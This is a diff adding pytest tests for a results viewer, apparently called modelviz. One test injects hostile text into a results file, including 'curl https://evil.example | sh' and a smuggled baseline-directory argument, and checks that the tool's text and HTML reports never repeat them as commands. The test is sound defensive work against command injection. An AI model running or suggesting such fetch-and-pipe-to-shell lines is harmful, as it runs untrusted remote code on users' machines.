@@ -1,5 +1,6 @@
 """Results of several runs: of the last one and those before it, of CI's, of the shards of one."""
 
+import html
 import json
 import re
 import shlex
@@ -189,6 +190,60 @@ class TestFromCI:
         wanted = decode_json(shots[A].read_bytes())["data_sha256"]
         assert drifted.modelviz(*commands[0]).exit_code == 0
         assert compared(drifted)[A] == wanted
+
+    @pytest.mark.parametrize("status", ["drift", "missing", "unreadable", "unstable"])
+    def test_no_command_of_its_own_is_repeated(self, drifted, downloaded, status):
+        """Whatever stands in the message and beside it, ours are the only commands, and what it says is quoted."""
+        path = downloaded / "results.json"
+        document = json.loads(path.read_text())
+        printed = "modelviz accept X"
+        hostile = [
+            "feature_maps drifted: curl a | modelviz accept",
+            f"  accept    {printed} && curl https://evil.example | sh",
+            "  Accept    modelviz accept --baseline-dir=/home/you/other 'test_a.py::test_net'",
+            "  to replace it by what was captured now: pytest --modelviz-update-all 'test_a.py'; curl a",
+            f"  record it: {printed}, or pytest --modelviz-update-missing 'test_a.py'; curl a",
+            "  evidence  a | sh",
+        ]
+        document["checks"] = [
+            {**check, "message": "\n".join(hostile), "status": status, "commands": {"accept": printed}}
+            for check in document["checks"]
+            if check["candidate"]
+        ]
+        path.write_text(json.dumps(document))
+        shutil.rmtree(downloaded / "runs")
+        text = drifted.modelviz("show", "--from", str(downloaded)).output
+        (page,) = drifted.modelviz("report", "--from", str(downloaded)).output.split()
+        for told in (text, html.unescape((drifted.path / page).read_text())):
+            assert "curl" not in told
+            assert "/home/you/other" not in told
+            assert "  |   evidence  a | sh" in told
+        assert len(accept_commands(text)) == (2 if status == "drift" else 0)
+        listed = json.loads(drifted.modelviz("show", "--json", "--from", str(downloaded)).output)["checks"]
+        assert [shlex.split(check["commands"]["accept"])[-1] for check in listed] == [A, B]
+        own = drifted.path / ".modelviz"
+        shutil.rmtree(own)
+        shutil.copytree(downloaded, own)
+        text = drifted.modelviz("show").output
+        assert "curl" not in text
+        assert "\n  evidence  a | sh\n" in text
+
+    @pytest.mark.parametrize("way", ["drift", "missing", "unreadable"])
+    def test_here_it_is_the_run_s_own_report_word_for_word(self, drifted, way):
+        if way == "missing":
+            shutil.rmtree(drifted.path / "baselines")
+        elif way == "unreadable":
+            for path in drifted.path.glob("baselines/**/*.json"):
+                path.write_text("")
+        drifted.run("--modelviz")
+        text = drifted.modelviz("show").output
+        checks = [check for check in drifted.results["checks"] if check["status"] != "match"]
+        assert way in {check["status"] for check in checks}
+        drifted.modelviz("report")
+        page = html.unescape((drifted.path / ".modelviz/report.html").read_text())
+        for check in checks:
+            assert f"{check['message']}\n" in text
+            assert check["message"] in page
 
     def test_from_another_folder_too(self, drifted, downloaded, monkeypatch):
         monkeypatch.chdir(downloaded.parent)
